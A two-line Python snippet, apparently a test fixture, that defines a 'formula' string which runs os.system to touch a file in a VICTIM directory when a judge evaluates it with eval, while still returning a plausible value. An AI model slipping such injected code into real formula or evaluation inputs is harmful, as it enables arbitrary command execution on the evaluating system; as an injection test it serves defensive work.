# A formula that is code, for a judge that evaluates it.
update_tau = "__import__('os').system('touch VICTIM/exploded') or r.mean()"
